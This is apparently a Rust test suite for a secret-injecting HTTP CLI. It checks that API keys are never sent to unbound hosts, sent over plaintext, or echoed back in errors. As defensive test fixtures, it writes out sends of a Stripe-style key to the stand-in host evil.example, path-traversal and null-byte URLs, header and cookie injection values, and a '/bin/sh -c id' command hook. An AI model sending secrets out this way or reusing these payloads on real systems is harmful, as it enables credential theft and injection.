//! What is refused before anything is sent, in which words, and that no text holds the value.

use super::{STRIPE, call};
use crate::support::{Upstream, fresh_key};

#[test]
fn a_value_goes_to_no_host_that_it_is_not_bound_to() {
    let upstream = Upstream::start(["evil.example", "api.stripe.com"]);
    let policy = "[egress]\ndefault = \"allowlist\"\nallow = [\"evil.example\"]\n";
    let key = fresh_key("sk_live_");
    for words in [
        &["--bearer", "STRIPE_KEY"][..],
        &["--query", "k=STRIPE_KEY"],
        &["--json-field", "/k=STRIPE_KEY"],
        &["--cookie", "k=STRIPE_KEY"],
    ] {
        let run = call(&upstream, "https://evil.example/test/echo").secret("STRIPE_KEY", &key);
        let run = run.config_file("config.toml", policy).flags(words).run().ended_with(125);
        let said = run.stderr();
        assert!(said.contains("`STRIPE_KEY` may not be sent to `evil.example:443`"), "{said}");
        assert!(said.contains("secrets bind STRIPE_KEY --host api.stripe.com"), "{said}");
        assert!(said.contains(" --host evil.example\n"), "{said}");
    }
    assert_eq!(upstream.connections(), 0);
    // Without a secret the allowlist alone decides.
    let at = |url: &str| call(&upstream, url).config_file("config.toml", policy).run();
    at("https://evil.example/test/ok").succeeded();
    let said = at("https://elsewhere.example/").ended_with(125).stderr();
    assert!(
        said.contains("allowlist") && said.contains("hint: agentsecrets workspace allowlist add elsewhere.example"),
        "{said}"
    );
}

#[test]
fn plaintext_is_refused_unless_the_users_own_policy_allows_it() {
    let upstream = Upstream::start(["api.stripe.com"]);
    let key = fresh_key("sk_live_");
    let bound = "[secrets.STRIPE_KEY]\nhosts = [\"api.stripe.com\", \"api.stripe.com:80\"]\n";
    for words in [&["--bearer", "STRIPE_KEY"][..], &["--query", "k=STRIPE_KEY"], &["--form-field", "k=STRIPE_KEY"]] {
        let run = call(&upstream, "http://api.stripe.com/test/echo").secret("STRIPE_KEY", &key);
        let run = run.config_file("config.toml", bound).flags(words).run().ended_with(125);
        assert!(run.stderr().contains("over plaintext http"), "{}", run.stderr());
    }
    assert_eq!(upstream.connections(), 0);
    let run = call(&upstream, "http://api.stripe.com/test/echo").secret("STRIPE_KEY", &key);
    let run = run.config_file("config.toml", format!("{bound}plaintext = true\n"));
    run.flags(["--bearer", "STRIPE_KEY"]).run().succeeded();
    assert_eq!(upstream.only("/test/echo").header("authorization"), Some(format!("Bearer {key}").as_str()));
}

#[test]
fn a_secret_that_is_bound_to_nothing_or_has_no_value_says_what_to_type() {
    let upstream = Upstream::start(["api.example.com"]);
    let at = || call(&upstream, "https://api.example.com:8443/x");
    let run = at().secret("MY_TOKEN", &fresh_key("token-")).flags(["--bearer", "MY_TOKEN"]).run().ended_with(125);
    assert!(
        run.stderr().contains("hint: agentsecrets secrets bind MY_TOKEN --host api.example.com:8443"),
        "{}",
        run.stderr()
    );
    let run = at().flags(["--bearer", "ABSENT"]).run().ended_with(125);
    assert!(run.stderr().contains("hint: agentsecrets secrets set ABSENT"), "{}", run.stderr());
    // A value in the place of a name is not repeated.
    let value = fresh_key("sk_live_");
    let run = at().declare("STRIPE_KEY", &value).flags(["--bearer", &value]).run().ended_with(125);
    assert!(run.stderr().contains("looks like a value"), "{}", run.stderr());
}

#[test]
fn no_error_repeats_a_value_that_sits_in_the_url() {
    let upstream = Upstream::start(["api.stripe.com"]);
    let key = fresh_key("sk_live_");
    let rules = "[secrets.STRIPE_KEY]\nrules = [\"GET /v1/**\"]\n";
    let urls = [
        (format!("{STRIPE}/other/{key}?k={key}"), "may not be used for"),
        (format!("https://absent.invalid/{key}?k={key}"), "absent.invalid"),
        (format!("https://{key}:x@api.stripe.com/"), "user name or password"),
        (format!("{STRIPE}/a b/{key}"), "%XX"),
        (format!("ftp://api.stripe.com/{key}"), "https://"),
        (format!("{STRIPE}/v1/../../../%2e%2e%2f{key}/%00"), ""),
        (format!("{STRIPE}/v1/../test/cut/length?{key}"), ""),
    ];
    for (url, said) in urls {
        let run = call(&upstream, &url).secret("STRIPE_KEY", &key).config_file("config.toml", rules);
        let run = run.flags(["--bearer", "STRIPE_KEY"]).run();
        assert!([2, 125].contains(&run.code()) && run.stderr().contains(said), "{said}: {}", run.stderr());
    }
}

#[test]
fn a_project_cannot_widen() {
    let upstream = Upstream::start(["evil.example", "api.stripe.com"]);
    let key = fresh_key("sk_live_");
    for text in [
        "[secrets.STRIPE_KEY]\nhosts = [\"evil.example\"]\n",
        "[egress]\nallow = [\"evil.example:8443\"]\n",
        "workspace = \"other\"\n",
        "[secrets.STRIPE_KEY]\nplaintext = true\n",
        "[secrets.STRIPE_KEY]\nsource = { command = [\"/bin/sh\", \"-c\", \"id\"] }\n",
    ] {
        let run = call(&upstream, "https://evil.example/test/ok").secret("STRIPE_KEY", &key);
        let run = run.project_file("agentsecrets.toml", text).flags(["--bearer", "STRIPE_KEY"]).run().ended_with(125);
        assert!(run.stderr().contains("a project file cannot"), "{text}: {}", run.stderr());
    }
    assert_eq!(upstream.connections(), 0);
    // It can narrow.
    let run = call(&upstream, &format!("{STRIPE}/v1/charges")).secret("STRIPE_KEY", &key);
    let run = run.project_file("agentsecrets.toml", "[secrets.STRIPE_KEY]\nrules = [\"GET /v1/balance\"]\n");
    let run = run.flags(["--bearer", "STRIPE_KEY"]).run().ended_with(125);
    assert!(run.stderr().contains("may not be used for `GET /v1/charges`"), "{}", run.stderr());
    assert_eq!(run.audit_of("decision")[0]["decision"], "refused");
}

#[test]
fn a_value_that_a_place_cannot_hold_is_refused() {
    let upstream = Upstream::start(["api.stripe.com"]);
    for (value, words) in [
        ("sk_live_line\nbreak_4242", &["--bearer", "STRIPE_KEY"][..]),
        ("sk_live_semi;colon_4242", &["--cookie", "k=STRIPE_KEY"]),
    ] {
        let run = call(&upstream, &format!("{STRIPE}/test/echo")).secret("STRIPE_KEY", value).flags(words).run();
        let run = run.ended_with(125);
        assert!(run.stderr().contains("cannot stand in this"), "{}", run.stderr());
    }
    assert_eq!(upstream.connections(), 0);
}
